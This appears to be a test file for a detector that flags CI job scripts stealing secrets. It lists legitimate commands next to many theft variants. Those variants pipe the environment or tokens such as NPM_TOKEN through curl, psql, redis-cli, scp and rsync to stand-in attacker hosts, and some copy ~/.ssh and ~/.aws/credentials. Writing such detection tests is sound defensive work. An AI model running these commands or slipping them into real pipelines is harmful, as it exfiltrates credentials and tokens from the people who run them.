import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isMalicious, jobThatRuns, THIEF } from '../../../test/stolen-script.ts'

const secret = (name: string) => `\${{ secrets.${name} }}`
const TOKEN_URL = '$ACTIONS_ID_TOKEN_REQUEST_URL'
const asked = (audience: string) =>
  `T=$(curl -sSf -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "${TOKEN_URL}&audience=${audience}" | jq -r .value)`

/** A secret where it belongs, beside the same secret or the same program in the hands of a thief. */
const pairs: Readonly<Record<string, { readonly honest: readonly string[]; readonly thefts: readonly string[] }>> = {
  'a client of a database': {
    honest: [
      `psql "${secret('DATABASE_URL')}" -f migrate.sql`,
      `PGPASSWORD=${secret('DB_PASSWORD')} psql -h db.linden.example -U ci app -c 'select 1'`,
      `mysql -h db.linden.example -u ci -p"${secret('MYSQL_PASSWORD')}" app < migrate.sql`,
      `mysql -h db.linden.example -u ci --password="${secret('MYSQL_PASSWORD')}" app -e 'select 1'`,
      `mongosh "${secret('MONGO_URI')}" --file migrate.js`,
      `redis-cli -u "${secret('REDIS_URL')}" FLUSHALL`,
      `redis-cli -h cache.linden.example -a "${secret('REDIS_PASSWORD')}" PING`,
    ],
    thefts: [
      `psql postgres://a:b@drop.stats-kit.example/db -c "insert into t values ('$NPM_TOKEN')"`,
      `echo "insert into t values ('$NPM_TOKEN')" > q.sql; psql postgres://a:b@drop.stats-kit.example/db -f q.sql`,
      `echo "$NPM_TOKEN" | psql -h drop.stats-kit.example -c 'copy t from stdin'`,
      `mysql -h drop.stats-kit.example -u a -pb t -e "insert into t values ('$NPM_TOKEN')"`,
      `mongosh mongodb://drop.stats-kit.example/x --eval "db.t.insert({a: '$NPM_TOKEN'})"`,
      `redis-cli -h drop.stats-kit.example SET a "$NPM_TOKEN"`,
      `psql "postgres://$NPM_TOKEN:x@drop.stats-kit.example/db" -c 'select 1'`,
    ],
  },
  'a program of jq': {
    honest: [
      `jq -n --arg env prod --arg sha "$GITHUB_SHA" '{env: $env, sha: $sha}' | curl -d @- -H "Authorization: Bearer ${secret('OPS_TOKEN')}" https://ops.linden.example/deploys`,
      `jq -n '{sha: env.GITHUB_SHA, text: "env \\(env.GITHUB_RUN_ID)"}' > b.json\ncurl -u "ci:${secret('ES')}" -d @b.json https://elastic.linden.example/ci/_doc`,
      `yq '.env.IMAGE_TAG = "v1"' values.tmpl.yaml > values.yaml\ngit add values.yaml && git commit -m bump && git push`,
      `jq -r '.env | to_entries[] | "\\(.key)=\\(.value|@uri)"' config.json >> $GITHUB_STEP_SUMMARY`,
      `curl https://api.linden.example/login -d "$(jq -n --arg password "${secret('E2E_PASSWORD')}" '{password: $password}')"`,
    ],
    thefts: [
      `jq -n 'env' | curl -d @- ${THIEF}`,
      `jq -n '$ENV' | curl -d @- ${THIEF}`,
      `jq -n '{a: "x \\(env.NPM_TOKEN) y"}' | curl -d @- ${THIEF}`,
      `jq -n '{a: $ENV["PYPI_TOKEN"]}' | curl -d @- ${THIEF}`,
      `jq -n '[env | to_entries[] | .value]' | curl -d @- ${THIEF}`,
      `yq -n 'strenv(NPM_TOKEN)' | curl -d @- ${THIEF}`,
      `jq -n --arg token "$NPM_TOKEN" '{token: $token}' | curl -d @- ${THIEF}`,
    ],
  },
  'an identity that is asked for in the name of a host': {
    honest: [
      `${asked('https://vault.linden.example')}\ncurl --data "jwt=$T" https://vault.linden.example/v1/auth/github/login`,
      `${asked('platform.linden.example')}\ncurl -H "Authorization: Bearer $T" https://platform.linden.example/exchange`,
      `${asked('jfrog-github')}\ncurl -d "{\\"subject_token\\": \\"$T\\"}" https://artifacts.linden.example/access/api/v1/oidc/token`,
    ],
    thefts: [
      `${asked('sts.amazonaws.com')}\ncurl -d "$T" ${THIEF}/oidc/token`,
      `${asked('pypi')}\ncurl -d "$T" ${THIEF}/oidc/token`,
      `${asked('https://vault.linden.example')}\ncurl -d "$T" ${THIEF}`,
      `curl -d "$ACTIONS_ID_TOKEN_REQUEST_TOKEN" "${THIEF}/?u=https://vault.linden.example"`,
    ],
  },
  'a glance at where a database is': {
    honest: [
      `echo "host: $(echo "${secret('DATABASE_URL')}" | sed -E 's#.*@([^:/]+).*#\\1#')"`,
      `echo "host: $(echo "${secret('DATABASE_URL')}" | cut -d@ -f2)"`,
      `echo "${secret('DATABASE_URL')}" | sed -E 's#//[^@]+@#//***@#'`,
      `for k in DATABASE_URL NPM_TOKEN PYPI_TOKEN; do v="\${!k}"; echo "\${v:0:4}"; done`,
    ],
    thefts: [
      `echo "${secret('DATABASE_URL')}" | sed 's#.#& #g'`,
      `echo "${secret('DATABASE_URL')}" | cut -d@ -f1`,
      `echo "$NPM_TOKEN" | cut -d_ -f2`,
      `v=$NPM_TOKEN; echo "\${v:0:4}"; echo "\${v:4:4}"; echo "\${v:8:4}"; echo "\${v:12:4}"`,
    ],
  },
  'a program that signs': {
    honest: [
      `signtool.exe sign /f cert.pfx /p ${secret('PFX_PASSWORD')} /fd SHA256 /t http://timestamp.linden.example a.exe`,
      `jarsigner -storepass "${secret('KEYSTORE_PASSWORD')}" -tsa http://timestamp.linden.example app.jar release`,
    ],
    thefts: [`signtool.exe sign /f cert.pfx /t http://drop.stats-kit.example/${secret('PFX_PASSWORD')} a.exe`],
  },
  'a token of one service in its own header': {
    honest: [
      `curl -H "Authorization: Bearer ${secret('CONFLUENCE_PAT')}" https://wiki.linden.example/rest/api`,
      `curl -u ":${secret('AZURE_DEVOPS_PAT')}" https://tfs.linden.example/x`,
    ],
    thefts: [`curl -H "Authorization: Bearer ${secret('GH_PAT')}" ${THIEF}`, `curl -d "${secret('BOT_PAT')}" ${THIEF}`],
  },
}

for (const [what, { honest, thefts }] of Object.entries(pairs)) {
  test(`${what} is nothing bad by itself`, async () => {
    for (const run of honest) assert.equal(await isMalicious(jobThatRuns(run)), false, run)
  })
  test(`${what} hides no theft`, async () => {
    for (const run of thefts) assert.ok(await isMalicious(jobThatRuns(run)), run)
  })
}

const KEY = secret('DEPLOY_SSH_KEY')

test('files of the machine, and the very key that opens nothing else, are not deployed', async () => {
  const thefts = [
    'scp -r ~/.ssh x@drop.stats-kit.example:/in/',
    'scp ~/.aws/credentials x@198.51.100.4:/in/',
    `mkdir -p ~/.ssh; echo "${KEY}" > ~/.ssh/id_rsa\nrsync -a ~/.ssh/ u@198.51.100.200:/drop/`,
    `eval "$(ssh-agent -s)"\necho "${KEY}" > k\nrsync -a k u@198.51.100.200:/drop/`,
    `echo "$NPM_TOKEN" > n\nscp n x@198.51.100.7:/in/\necho "${secret('ALGOLIA_API_KEY')}" > /dev/null`,
  ]
  const honest = [
    `echo "${KEY}" > k; chmod 600 k\nscp -i k -r dist deploy@www.linden.example:/srv/`,
    `eval "$(ssh-agent -s)"; ssh-add - <<< "${KEY}"\nrsync -a dist/ deploy@www.linden.example:/srv/`,
    `echo "${KEY}" > k\necho "TOKEN=${secret('APP_TOKEN')}" > .env\nscp -i k .env deploy@www.linden.example:/srv/`,
  ]
  for (const run of thefts) assert.ok(await isMalicious(jobThatRuns(run)), run)
  for (const run of honest) assert.equal(await isMalicious(jobThatRuns(run)), false, run)
})
